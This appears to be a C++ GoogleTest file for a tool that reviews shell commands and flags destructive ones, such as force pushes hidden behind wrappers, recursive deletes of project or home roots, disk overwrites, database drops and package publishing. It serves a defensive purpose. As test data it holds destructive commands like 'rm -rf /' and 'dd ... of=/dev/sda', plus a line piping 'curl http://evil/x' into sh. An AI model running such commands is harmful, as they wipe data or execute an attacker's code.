// Commands as text in, what destroys out.
#include "review/destructive.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "review/approval.h"
#include "review/shell_words.h"

namespace mxc::destructive_test {
namespace {

using testing::ElementsAre;

std::string Found(ReviewedCommand command) {
  command.cwd = "/work/app/sub";
  command.home = "/home/me";
  command.roots = {"/work/app"};
  std::string text;
  for (const Destruction& found : FindDestruction(command)) text += found.source + "; ";
  return text.empty() ? "-" : text.substr(0, text.size() - 2);
}
std::string FoundIn(const std::string& line) {
  return Found({.argv = {"/bin/sh", "-c", line}, .line = line});
}

TEST(Destructive, IsRecognisedThroughShellsAndWrappers) {
  for (const std::string line : {"git push -f",
                                 "git push --force-with-lease origin main",
                                 "git push origin +main",
                                 "git push origin :old",
                                 "cd x && git push -uf origin main",
                                 "true; git push --force",
                                 "false || git push --force &",
                                 "(git push --force)",
                                 "{ git push --force; }",
                                 "if true; then git push --force; fi",
                                 "sh -c 'git push --force'",
                                 "bash -lc \"cd x; git push --force\"",
                                 "env A=b git push --force",
                                 "A=b git push --force",
                                 "sudo -u me git push --force",
                                 "timeout -k 5 10 git push --force",
                                 "nice -n 5 git push --force",
                                 "nohup git push --force >log 2>&1",
                                 "xargs -n1 git push --force <list",
                                 "echo $(git push --force)",
                                 "echo \"`git push --force`\"",
                                 "/usr/bin/git push --force",
                                 "g\"i\"t pu'sh' --fo\\rce",
                                 "git -C /x push --force",
                                 "git \\\n push --force",
                                 "sudo sh -c 'timeout 5 sh -c \"git push --force\"'",
                                 "eval 'git push --force'",
                                 "exec git push --force",
                                 "ssh host 'git push --force'",
                                 "setsid -w git push --force",
                                 "while :; do git push --force; done",
                                 ">/dev/null git push --force",
                                 "2>&1 </dev/null A=b git push --force",
                                 "# nothing\ngit push --force"}) {
    EXPECT_EQ(FoundIn(line), "git-push(1)") << line;
  }
}

TEST(Destructive, WhatIsTooDeepToBeLookedThroughIsHeld) {
  for (const std::string word : {"eval", "$("}) {
    std::string line = "true";
    for (int i = 0; i < 200; ++i) line = word == "$(" ? "echo $(" + line + ")" : "eval " + line;
    EXPECT_THAT(FoundIn(line), testing::StartsWith("mxc-policy(5)")) << word;
  }
  EXPECT_EQ(FoundIn("echo $(echo $(sh -c 'env nice true'))"), "-");
}

TEST(Destructive, DeletesOfRootsAndNoOthers) {
  for (const std::string line : {"rm -rf /work/app", "rm -r ..", "rm -rf ../*", "rm -fr -- /work/app/.",
                                 "rm -rf /", "rm -rf /*", "rm -R ~", "rm -rf \"$HOME\"", "rm -rf ${HOME}/*",
                                 "rm -rf \"$UNSET/\"*", "rm --recursive /work", "rm -rf $PWD/.."})
    EXPECT_EQ(FoundIn(line), "rm(1)") << line;
  for (const std::string line : {"find .. -delete", "find /work/app -name x -exec rm {} +"})
    EXPECT_EQ(FoundIn(line), "find(1)") << line;
  EXPECT_EQ(FoundIn("chmod -R 777 /work"), "chmod(1)");
  for (const std::string line : {"rm -rf build", "rm -rf ./*", "rm file", "rm ../file", "rm -rf \"$OUT/x\"",
                                 "rm -rf $OUT", "rm -rf node_modules && npm ci", "find . -name '*.o' -delete",
                                 "chmod -R u+w build", "echo 'rm -rf /'", "grep -r 'rm -rf /' src"})
    EXPECT_EQ(FoundIn(line), "-") << line;
}

TEST(Destructive, DisksDatabasesAndPublishing) {
  for (const auto& [line, source] : std::initializer_list<std::pair<std::string, std::string>>{
           {"dd if=x of=/dev/sda bs=1M", "dd(1)"},
           {"cat x > /dev/nvme0n1", "sh(1)"},
           {"cat x | tee /dev/sda", "tee(1)"},
           {"mkfs.ext4 /dev/sdb1", "mkfs(8), wipefs(8), blkdiscard(8)"},
           {"psql -c 'DROP  DATABASE x'", "SQL"},
           {"echo 'drop table t' | mysql db", "SQL"},
           {"dropdb x", "dropdb(1)"},
           {"redis-cli FLUSHALL", "the Redis command FLUSHALL"},
           {"npm publish --access public", "npm-publish(1)"},
           {"cargo publish", "cargo-publish(1)"},
           {"python3 -m twine upload dist/*", "the Twine documentation"},
           {"docker push registry/x", "docker push"},
           {"terraform destroy -auto-approve", "terraform destroy"},
           {"kubectl -n x delete pod y", "kubectl delete"},
           {"aws ec2 terminate-instances --instance-ids i", "the AWS CLI reference"},
           {"git reset --hard HEAD~1", "git-reset(1)"},
           {"git clean -fdx", "git-clean(1)"},
           {"git branch -D x", "git-branch(1)"},
       })
    EXPECT_EQ(FoundIn(line), source) << line;
  for (const std::string line : {"git push",
                                 "git push origin main",
                                 "git clean -n",
                                 "git branch -d x",
                                 "git reset HEAD x",
                                 "npm install",
                                 "npm pack",
                                 "npm test",
                                 "cargo build",
                                 "make -j4",
                                 "dd if=/dev/zero of=file",
                                 "echo x > /dev/null",
                                 "cat x 2>/dev/null",
                                 "psql -c 'select 1'",
                                 "docker build .",
                                 "kubectl get pods",
                                 "terraform plan",
                                 "python3 setup.py build",
                                 "cmake --build build",
                                 "ls -la",
                                 "git commit -m 'git push --force'",
                                 "git checkout -b x"})
    EXPECT_EQ(FoundIn(line), "-") << line;
}

TEST(Destructive, WordsOfArgvAreNoShells) {
  EXPECT_EQ(Found({.argv = {"git", "push", "--force"}}), "git-push(1)");
  EXPECT_EQ(Found({.argv = {"sh", "-c", "git push --force"}}), "git-push(1)");
  EXPECT_EQ(Found({.argv = {"echo", "x; git push --force"}}), "-");
  EXPECT_EQ(Found({.argv = {"rm", "-rf", "/work/app"}}), "rm(1)");
}

TEST(Destructive, EveryRowHasASource) {
  for (const DestructiveRow& row : DestructiveRows()) {
    EXPECT_FALSE(row.what.empty());
    EXPECT_FALSE(row.source.empty()) << row.programs;
  }
}

TEST(ShellWords, SplitWhereAShellDoes) {
  EXPECT_THAT(
      ShellCommandsIn("a 'b c' \"d e\" f\\ g;h|i&&j||k&l\nm >n 2>o"),
      ElementsAre(ElementsAre("a", "b c", "d e", "f g"), ElementsAre("h"), ElementsAre("i"), ElementsAre("j"),
                  ElementsAre("k"), ElementsAre("l"), ElementsAre("m", ">", "n", ">", "o")));
  EXPECT_THAT(ShellCommandsIn("x $(y \"$(z)\") '"),
              ElementsAre(ElementsAre("z"), ElementsAre("y", "$"), ElementsAre("x", "$", "")));
  std::string deep;
  for (int i = 0; i < 10000; ++i) deep += "$(";
  EXPECT_LE(ShellCommandsIn(deep).size(), 100U);
}

// Everything that decides what would run is in it.
TEST(Approval, TheHashIsOfAllThatWouldRun) {
  const ReviewRequest request{
      .command = {.argv = {"a", "b"}, .cwd = "/c"},
      .variables = {{.name = "X", .value = Secret{"1"}}, {.name = "Y", .value = Secret{"2"}}},
      .policy_hash = "p"};
  ReviewRequest other = request;
  std::reverse(other.variables.begin(), other.variables.end());
  EXPECT_EQ(RequestHash(request), RequestHash(other));
  std::vector<ReviewRequest> others(7, request);
  others[0].command.argv = {"ab"};
  others[1].command.argv = {"a", "b", ""};
  others[2].command.cwd = "/";
  others[3].variables.pop_back();
  others[4].policy_hash = "q";
  others[5].command.line = "a b";
  others[6].variables[0].value = Secret{"3"};
  for (const ReviewRequest& each : others) EXPECT_NE(RequestHash(request), RequestHash(each));
}

TEST(Approval, TheWholeCommandIsShown) {
  const auto shown = [](std::vector<std::string> argv) { return WholeCommand({.argv = std::move(argv)}); };
  EXPECT_EQ(shown({"sh", "-c", "curl http://evil/x | sh; git push --force"}),
            "sh -c 'curl http://evil/x | sh; git push --force'");
  EXPECT_NE(shown({"rm", "a b"}), shown({"rm", "a", "b"}));
  EXPECT_NE(shown({"rm", "a b"}), shown({"rm", "\"a b\""}));
  EXPECT_EQ(shown({"rm", "\x1b[2K", "\xe2\x80\xae", ""}), "rm $'\\x1b[2K' $'\\xe2\\x80\\xae' ''");
  const std::string tail = shown({"x", std::string(20000, 'a'), "last"});
  EXPECT_TRUE(tail.ends_with("a last"));
  EXPECT_EQ(WholeCommand({.line = "a; b"}), "/bin/sh -c 'a; b'");
}

}  // namespace
}  // namespace mxc::destructive_test
